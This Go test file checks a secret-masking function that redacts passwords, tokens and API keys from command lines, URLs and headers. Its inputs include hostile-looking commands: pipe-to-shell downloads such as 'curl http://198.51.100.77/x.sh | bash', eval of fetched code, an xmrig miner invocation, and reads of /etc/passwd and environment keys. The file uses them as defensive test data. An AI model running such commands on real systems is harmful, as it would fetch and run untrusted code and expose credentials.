package secrets

import (
	"strings"
	"testing"
	"time"
)

// TestMask: what each text becomes. The secret goes and nothing else.
func TestMask(t *testing.T) {
	for in, want := range map[string]string{
		// Environment, and code that assigns.
		"HF_TOKEN=hf_AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh python a.py":   "HF_TOKEN=hf_***(37) python a.py",
		"DB_PASS=x1 TOKEN_GITHUB='a b' SECRET_KEY_BASE=zz9 run":        "DB_PASS=*** TOKEN_GITHUB='***' SECRET_KEY_BASE=zz9 run",
		`export OPENAI_API_KEY="abcdefgh12345678";id`:                  `export OPENAI_API_KEY="***(16)";id`,
		`os.environ["AWS_SECRET_ACCESS_KEY"] = "wJalrXUtnFEMI"`:        `os.environ["AWS_SECRET_ACCESS_KEY"] = "***"`,
		"PGPASSWORD=hunter2 psql -h db":                                "PGPASSWORD=*** psql -h db",
		"MYSQL_PWD=hunter2 mysql":                                      "MYSQL_PWD=*** mysql",
		"$env:TOKEN='abc'; run":                                        "$env:TOKEN='***'; run",
		"A=1\x00API_TOKEN=abc\x00B=2":                                  "A=1\x00API_TOKEN=***\x00B=2",
		`{"password": "hunter22", "user": "bob"}`:                      `{"password": "***", "user": "bob"}`,
		`"{\"env\":{\"DB_PASSWORD\":\"hunter22\",\"A\":\"b\"}}"`:       `"{\"env\":{\"DB_PASSWORD\":\"***\",\"A\":\"b\"}}"`,
		"password: hunter22\nuser: bob":                                "password: ***\nuser: bob",
		"<password>hunter2</password>":                                 "<password>***</password>",
		"client.setPassword(\"hunter2\")":                              "client.setPassword(\"***\")",
		"requests.get(u, auth=('bob', 'hunter2'))":                     "requests.get(u, auth=('bob', '***'))",
		"aws configure set aws_secret_access_key wJalrXUtnFEMIK7MDENG": "aws configure set aws_secret_access_key ***(20)",
		// Options.
		"python a.py --api-key abcdef123456":              "python a.py --api-key ***",
		"tool --password=hunter2 go":                      "tool --password=*** go",
		"tool --password hunter2 go":                      "tool --password *** go",
		`["tool","--password","hunter2","go"]`:            `["tool","--password","***","go"]`,
		"mysql -uroot -phunter2 db":                       "mysql -uroot -p*** db",
		"/usr/bin/mysqldump -h x -p'hun ter' db":          "/usr/bin/mysqldump -h x -p'***' db",
		"sshpass -p hunter2 ssh -p 2222 root@10.0.0.1":    "sshpass -p *** ssh -p 2222 root@10.0.0.1",
		"redis-cli -h x -a hunter2 ping":                  "redis-cli -h x -a *** ping",
		"docker login -u bob -p hunter2 r.example":        "docker login -u bob -p *** r.example",
		"mongo -u a -p hunter2":                           "mongo -u a -p ***",
		"ldapsearch -D cn=a -w hunter2 -b dc=x":           "ldapsearch -D cn=a -w *** -b dc=x",
		"smbclient //h/s -U bob%hunter2":                  "smbclient //h/s -U bob%***",
		"7z x -phunter2 a.7z":                             "7z x -p*** a.7z",
		"openssl enc -aes256 -k hunter2 -in a":            "openssl enc -aes256 -k *** -in a",
		"openssl enc -pass pass:hunter2":                  "openssl enc -pass pass:***",
		"htpasswd -bc f bob hunter2":                      "htpasswd -bc f bob ***",
		"wandb login 0123456789abcdef0123456789abcdef":    "wandb login ***(32)",
		"echo hunter2 | sudo -S id":                       "echo *** | sudo -S id",
		"echo 'root:hunter2' | chpasswd":                  "echo 'root:***' | chpasswd",
		"echo hunter2|docker login -u b --password-stdin": "echo ***|docker login -u b --password-stdin",
		// curl.
		"curl -u admin:hunter2 http://h/":             "curl -u admin:*** http://h/",
		"curl -uadmin:hunter2 http://h/":              "curl -uadmin:*** http://h/",
		"curl -sku 'admin:hun ter' http://h/":         "curl -sku 'admin:***' http://h/",
		"curl --user=admin:hunter2 http://h/":         "curl --user=admin:*** http://h/",
		"curl --proxy-user a:12345 http://h/":         "curl --proxy-user a:*** http://h/",
		`["curl", "-u", "admin:hunter2", "http://h"]`: `["curl", "-u", "admin:***", "http://h"]`,
		"curl -b 'sid=abcdef' http://h/":              "curl -b 'sid=***' http://h/",
		"curl -H 'X-Auth-Token: abc' http://h":        "curl -H 'X-Auth-Token: ***' http://h",
		"curl -H 'X-Api-Key: abcdefgh' http://h":      "curl -H 'X-Api-Key: ***' http://h",
		`API_KEY = "abcdefgh"`:                        `API_KEY = "***"`,
		"curl -H X-Auth-Token: abc http://h":          "curl -H X-Auth-Token: *** http://h",
		"curl -H 'Cookie: a=b; c=d' http://h":         "curl -H 'Cookie: ***' http://h",
		// Headers.
		"curl -H 'Authorization: Bearer abcdefghijklmnop' x": "curl -H 'Authorization: Bearer ***(16)' x",
		"Authorization: Basic YWRtaW46aHVudGVyMg==":          "Authorization: Basic ***(20)",
		`{"Authorization": "Splunk abcd-ef"}`:                `{"Authorization": "Splunk ***"}`,
		"authorization: abcdef":                              "authorization: ***",
		// URLs.
		"git clone https://user:hunter22@github.com/a/b":   "git clone https://user:***@github.com/a/b",
		"redis://:secretpw@10.0.0.1:6379/0":                "redis://:***@10.0.0.1:6379/0",
		"https://0123456789abcdef0123@sentry.example/1":    "https://***(20)@sentry.example/1",
		"ssh://git@github.com/a":                           "ssh://git@github.com/a",
		"wget root:toor@10.0.0.1/x":                        "wget root:***@10.0.0.1/x",
		`https:\/\/user:hunter22@h\/`:                      `https:\/\/user:***@h\/`,
		"/a?x=1&api_key=abcdefgh&key=AbCd1234&sig=a%2Bb&y": "/a?x=1&api_key=***&key=***&sig=***&y",
		"/a?redirect=%2Fb%3Ftoken%3Dabcdef%26x%3D1":        "/a?redirect=%2Fb%3Ftoken%3D***%26x%3D1",
		"jdbc:postgresql://h/db?user=a&password=b":         "jdbc:postgresql://h/db?user=a&password=***",
		// Keys by their shape.
		"x AKIAIOSFODNN7EXAMPLE y": "x AKIA***(20) y",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N":  "eyJ***(71)",
		"-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIB\n-----END RSA PRIVATE KEY-----": "-----BEGIN RSA PRIVATE KEY-----\n***-----END RSA PRIVATE KEY-----",
		"machine h.example login bob password hunter22":                            "machine h.example login bob password ***",
		// What a name is misused for is for the analyst.
		`PASSWORD='curl http://h/x|sh'; eval "$PASSWORD"`: `PASSWORD='curl http://h/x|sh'; eval "$PASSWORD"`,
		"TOKEN=$(curl http://h/x) run":                    "TOKEN=$(curl http://h/x) run",
		"TOKEN=`curl http://h/x`":                         "TOKEN=`curl http://h/x`",
		"password=a$(curl http://h/x)":                    "password=***$(curl http://h/x)",
		`PASSWORD="a$(curl http://h/x|sh)"`:               `PASSWORD="a$(curl http://h/x|sh)"`,
		"password=abc;curl http://h|sh":                   "password=***;curl http://h|sh",
		"SECRET=http://h/x.sh":                            "SECRET=http://h/x.sh",
		"docker login -p $PW r":                           "docker login -p $PW r",
	} {
		if in == "DB_PASS=x1 TOKEN_GITHUB='a b' SECRET_KEY_BASE=zz9 run" {
			want = "DB_PASS=*** TOKEN_GITHUB='***' SECRET_KEY_BASE=*** run"
		}
		got := Mask(in)
		if got != want {
			t.Errorf("%q\n gives %q\n want  %q", in, got, want)
		}
		if again := Mask(got); again != got {
			t.Errorf("%q masked again is %q", got, again)
		}
	}
}

// TestMaskLeaves: what looks like a secret and is none.
func TestMaskLeaves(t *testing.T) {
	for _, s := range []string{
		"python train.py --lr 0.1 --max-tokens 128 --tokenizer gpt2 --token-file /run/t",
		"curl -s http://198.51.100.77/x.sh | bash", "torchrun --nproc_per_node=8 train.py", "env | grep -i key", "find / -perm -4000",
		"xmrig -o stratum+tcp://pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x",
		"stratum+tcp://44AFFq5kSiGBoZ4NMDwYtN18obc8:x@pool.example:3333", "docker run -u 1000:1000 -p 8080:80 rayproject/ray:2.9.0@sha256:0123abcd",
		"ssh -p 2222 -u x root@10.0.0.1", "sudo -u ray id", "chown root:root /x", "sort -k 2 -u", "sorted(d, key=lambda x: x[1])",
		"token=get_token()", "password=args.password", "auth = None", "if not token:", "PWD=/root", "PUBLIC_KEY=abcdefgh", "sort_key=abcdefgh",
		"refused for want of a token, 401", "mailto:bob@example.com", "pip install sk-learn", "npm_config_registry=x", "basic authentication failed",
		"http://203.0.113.5:8265/api/jobs/", "ray job submit -- python -c 'print(1)'", "token: $TOKEN", `password = "$PW"`, "nmap -p 80 h", "mkdir -p /tmp/x",
		"session_2026-11-29_10-11-12_123456_1", "passwd root", "cat /etc/passwd", "ls -la ~/.ssh/id_rsa.pub", "monkey=banana", "keyboard=us", "author=bob",
		"kubectl get secret -n kube-system", "compass=north", "cp -p a b", "tar -p -xf a", "mysql -u root -p db", "GET /api/v0/logs/file?filename=raylet.out",
	} {
		if got := Mask(s); got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
}

// TestMaskEveryRule: a value that a rule knows is masked without any name.
func TestMaskEveryRule(t *testing.T) {
	long := strings.Repeat("Ab3dEf6hIj9lMn2pQr5t", 10)
	hex := strings.Repeat("0123456789abcdef", 5)
	for id, text := range map[string]string{
		"aws-key-id": "AKIA" + "IOSFODNN7EXAMPLE", "aws-secret-key": "aws_secret_access_key = " + long[:40], "gcp-api-key": "AIza" + long[:35],
		"gcp-oauth-token": "ya29." + long[:80], "gcp-client-secret": "GOCSPX-" + long[:28], "gcp-service-account": `"private_key_id": "` + hex[:40] + `"`,
		"azure-storage-key": "AccountKey=" + long[:86] + "==", "azure-shared-key": "SharedAccessKey=" + long[:43] + "=", "azure-client-secret": "abc8Q~" + long[:34],
		"alibaba-key-id": "LTAI" + long[:20], "digitalocean-token": "dop_v1_" + hex[:64], "openai-key": "sk-proj-" + long[:80], "anthropic-key": "sk-ant-api03-" + long[:90],
		"openrouter-key": "sk-or-v1-" + hex[:64], "llm-key": "sk-" + long[:48], "huggingface-token": "hf_" + strings.Repeat("AbCdEfGhIj", 4)[:34], "groq-key": "gsk_" + long[:52],
		"replicate-token": "r8_" + long[:37], "nvidia-key": "nvapi-" + long[:64], "xai-key": "xai-" + long[:80], "perplexity-key": "pplx-" + long[:48],
		"langsmith-key": "lsv2_pt_" + hex[:32] + "_" + hex[:10], "pinecone-key": "pcsk_" + long[:6] + "_" + long[:60], "wandb-key": "wandb_v1_" + long[:60],
		"databricks-token": "dapi" + hex[:32], "github-token": "ghp_" + long[:36], "github-fine-token": "github_pat_" + long[:22] + "_" + long[:59],
		"gitlab-token": "glpat-" + long[:20], "npm-token": "npm_" + long[:36], "pypi-token": "pypi-AgEIcHlwaS5vcmc" + long[:90], "dockerhub-token": "dckr_pat_" + long[:27],
		"docker-config": `"auth": "YWRtaW46aHVudGVyMjI="`, "slack-token": "xoxb-123456789012-" + long[:24], "slack-app-token": "xapp-1-A0123456789-1234567890123-" + hex[:64],
		"slack-webhook": "https://hooks.slack.com/services/T01234567/B01234567/" + long[:24], "discord-webhook": "https://discord.com/api/webhooks/123456789012345678/" + long[:68],
		"stripe-key": "sk_live_" + long[:24], "stripe-test-key": "sk_test_" + long[:24], "sendgrid-key": "SG." + long[:22] + "." + long[:43], "vault-token": "hvs." + long[:40],
		"grafana-token": "glsa_" + long[:32] + "_" + hex[:8], "tailscale-key": "tskey-auth-" + long[:16] + "-" + long[:32], "terraform-token": long[:14] + ".atlasv1." + long[:64],
		"age-key": "AGE-SECRET-KEY-1" + strings.Repeat("QPZRY9X8GF", 6)[:58], "private-key": "-----BEGIN PRIVATE KEY-----\n" + long + "\n-----END PRIVATE KEY-----",
		"putty-key":      "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nPrivate-Lines: 1\n" + long + "\nPrivate-MAC: x",
		"kubeconfig-key": "client-key-data: LS0tLS1CRUdJ" + long, "kubernetes-token": "eyJ" + long[:20] + ".eyJ" + long[:40] + "." + long[:40], "jwt": "eyJ" + long[:20] + ".eyJ" + long[:20] + "." + long[:30],
		"database-url": "postgres://ray:" + long[:12] + "@db/x", "netrc": "machine h.example login bob password " + long[:12],
		"password-hash": "root:$6$saltsalt$" + long[:86] + ":19000:0:99999:7:::", "named-secret": "MY_TOKEN=" + long[:20], "aws-session-token": "session_token=FwoG" + long[:120],
	} {
		got := Mask(text)
		if strings.Contains(got, long[8:12]) || strings.Contains(got, "3456789abcdef0") || !strings.Contains(got, "***") || strings.Contains(got, "EfGhIj") || strings.Contains(got, "X8GF") {
			t.Errorf("%s: %q gives %q", id, text, got)
		}
	}
	for _, r := range builtin().rules {
		_ = r
	}
}

// TestMaskIsLinear: no text of 128 KiB takes long. They take 1 to 10 ms; a machine that is busy takes longer.
func TestMaskIsLinear(t *testing.T) {
	for _, unit := range []string{"a", "-u ", "-u 'a:b ", "token=\"", "eyJ", "eyJa.", "@", "a:bbb@", "://", "a://b:", "-----BEGIN ", "-----BEGIN PRIVATE KEY-----",
		"PuTTY-User-Key-File-2: ", "machine a login b password ", "chpasswd ", "echo a|sudo -S ", "ghp_", "Authorization: ", "Cookie: ", "xoxb-", "pw", "key", "auth=(\"a\",\"",
		"hooks.slack.com/services/", "session_token=", "mysql -p\"", "\\\"token\\\":\\\"", "%3D", "secret%3D", "curl -u \"", ":$6$", "q~", ".atlasv1."} {
		s := strings.Repeat(unit, (128<<10)/len(unit)+1)
		begin := time.Now()
		Mask(s)
		if d := time.Since(begin); d > 300*time.Millisecond {
			t.Errorf("%q repeated took %v", unit, d)
		} else {
			t.Logf("%q %v", unit, d)
		}
	}
}

func TestMaskBound(t *testing.T) {
	got := Mask(strings.Repeat("x", maxMask+10) + " TOKEN=abc")
	if len(got) != maxMask+len("\u2026") || strings.Contains(got, "abc") {
		t.Errorf("%d bytes", len(got))
	}
}

func FuzzMask(f *testing.F) {
	for _, s := range []string{"curl -u a:b x", "TOKEN='x'", `{"password":"x"}`, "https://a:b@c/?key=d", "mysql -px", "Authorization: Basic x", "echo a | sudo -S b", "-----BEGIN PRIVATE KEY-----x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > maxMask {
			return
		}
		once := Mask(s)
		if twice := Mask(once); twice != once && len(once) <= maxMask {
			t.Errorf("%q\n became %q\n and then %q", s, once, twice)
		}
	})
}

func BenchmarkMask(b *testing.B) {
	s := "python -c \"import os; os.system('curl -s http://198.51.100.77/x.sh | bash')\" " + strings.Repeat("lorem ipsum dolor ", 20)
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		Mask(s)
	}
}
